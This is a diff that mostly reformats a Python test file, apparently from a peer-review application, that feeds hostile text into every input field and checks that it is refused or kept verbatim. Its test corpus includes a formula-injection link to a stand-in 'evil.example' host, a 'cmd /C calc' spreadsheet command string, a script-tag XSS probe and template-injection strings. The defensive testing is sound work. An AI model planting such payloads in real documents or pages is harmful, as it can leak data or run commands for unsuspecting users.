@@ -24,13 +24,14 @@ from pathlib import Path
 import icalendar
 import pytest
 import yaml
-from conftest import EXAMPLE, run_cli
 from docx import Document as WordDocument
 from sqlmodel import select
+
+from conftest import EXAMPLE, run_cli
 from webclient import sign_in
 
 #: Everything in one line that is not refused: it must come out as typed.
-MIX_LINE = "=HYPERLINK(\"http://evil.example/?leak\",\"Click\") [/] [bold]x[/red] {{ 7*7 }} {% if x %} <script>alert(1)</script> \u202eevil\u202c 📚 & 'q'"
+MIX_LINE = '=HYPERLINK("http://evil.example/?leak","Click") [/] [bold]x[/red] {{ 7*7 }} {% if x %} <script>alert(1)</script> \u202eevil\u202c 📚 & \'q\''
 MIX_PARAGRAPH = MIX_LINE + "\nA second line, +cmd|' /C calc'!A0"
 CORPUS = {
     "nul": "before\x00after",
@@ -39,7 +40,7 @@ CORPUS = {
     "markup": "[/] clash [bold]",
     "jinja": "{{ 7*7 }} {% for x in y %}",
     "formula": "=cmd|' /C calc'!A0",
-    "html": "<script>alert(1)</script> & \"quoted\"",
+    "html": '<script>alert(1)</script> & "quoted"',
     "newline": "first line\nsecond line",
     "emoji": "Reading 📚 and writing ✍️",
     "megabyte": "x" * 1_000_000,
@@ -94,7 +95,11 @@ def _loader_cases():
     return [
         ("partnership", yaml.safe_load(EXAMPLE.read_text()), load_partnership_file),
         ("framework", framework, load_framework_file),
-        ("calendar", yaml.safe_load((BUNDLED / "sheffield.yaml").read_text()), lambda path: (load_calendar_file(path), Document.read(path).validate(CalendarSpec))[1]),
+        (
+            "calendar",
+            yaml.safe_load((BUNDLED / "sheffield.yaml").read_text()),
+            lambda path: (load_calendar_file(path), Document.read(path).validate(CalendarSpec))[1],
+        ),
     ]
 
 
@@ -107,7 +112,9 @@ def test_every_loader_field_refuses_or_keeps_hostile_text(tmp_path, name, data, 
     for field, _ in leaves(data):
         template = yaml.safe_dump(replaced(data, field, "HOSTILE-VALUE"), allow_unicode=True, width=10**9)
         for label, value in CORPUS.items():
-            path.write_text(template.replace("HOSTILE-VALUE", json.dumps(value)), encoding="utf-8")  # JSON strings are YAML
+            path.write_text(
+                template.replace("HOSTILE-VALUE", json.dumps(value)), encoding="utf-8"
+            )  # JSON strings are YAML
             try:
                 loaded = load(path)
             except UserError as exc:
@@ -161,7 +168,7 @@ def test_yaml_itself_cannot_be_turned_against_the_reader(tmp_path):
 
 def test_the_command_line_names_the_problem_without_a_traceback(tmp_path):
     path = tmp_path / "framework.yaml"
-    path.write_text("id: x\ntitle: \"[/red] bad\"\ntitle: again\n", encoding="utf-8")
+    path.write_text('id: x\ntitle: "[/red] bad"\ntitle: again\n', encoding="utf-8")
     result = run_cli("framework", "validate", path)
     assert result.returncode == 2 and "Traceback" not in result.stderr
     assert "line 3 (title): the key 'title' is given twice (first on line 2)" in result.stderr
@@ -191,7 +198,7 @@ def _check_every_field(session, task, review, answer) -> dict:
     from peer_review.service import workflow
 
     hostile = answer
-    for path, original in leaves(answer):
+    for path, _original in leaves(answer):
         for label, value in CORPUS.items():
             try:
                 parsed = workflow.validate_answer(session, task, review, replaced(answer, path, value))
@@ -201,7 +208,11 @@ def _check_every_field(session, task, review, answer) -> dict:
                 continue
             TALLY["answers", "kept"] += 1
             assert label not in ALWAYS_REFUSED, (task.kind, path, label)
-            assert at(parsed.model_dump(mode="json"), path) in (value.strip(), value.strip().lower()), (task.kind, path, label)
+            assert at(parsed.model_dump(mode="json"), path) in (value.strip(), value.strip().lower()), (
+                task.kind,
+                path,
+                label,
+            )
         if path[-1] in ("person", "email", "response", "decision", "choice"):  # chosen from a list, not typed
             continue
         for value in (MIX_PARAGRAPH, MIX_LINE):
@@ -234,12 +245,16 @@ def test_a_review_with_hostile_text_everywhere(database_url, tmp_path):
         for _round in range(40):
             sweep.advance_review(db.session_scope, 1)
             with db.session_scope() as session:
-                open_ = session.exec(select(Task).where(Task.review_id == 1, Task.status == "open").order_by(Task.id)).all()
+                open_ = session.exec(
+                    select(Task).where(Task.review_id == 1, Task.status == "open").order_by(Task.id)
+                ).all()
                 if not open_:
                     break
                 for task in open_:
                     review = session.get(Review, 1)
-                    hostile = _check_every_field(session, task, review, simulated(queries.task_context(session, task.id)))
+                    hostile = _check_every_field(
+                        session, task, review, simulated(queries.task_context(session, task.id))
+                    )
                     kinds_seen.add(task.kind)
                     if hostile != simulated(queries.task_context(session, task.id)):
                         typed_kinds.add(task.kind)
@@ -268,7 +283,9 @@ def test_a_review_with_hostile_text_everywhere(database_url, tmp_path):
         parsed = email.message_from_bytes(build_email(row).as_bytes(), policy=email.policy.default)
         assert parsed["Subject"] == row.subject and "\n" not in parsed["Subject"]
         assert "<script>alert(1)</script>" not in row.html
-    assert any(f"{MIX_LINE} trust 0" in row.text and f"{MIX_LINE} trust 0" in html.unescape(row.html) for row in messages)
+    assert any(
+        f"{MIX_LINE} trust 0" in row.text and f"{MIX_LINE} trust 0" in html.unescape(row.html) for row in messages
+    )
 
     # Calendar: the host's name comes back as typed
     events = icalendar.Calendar.from_ical(calendar).walk("VEVENT")
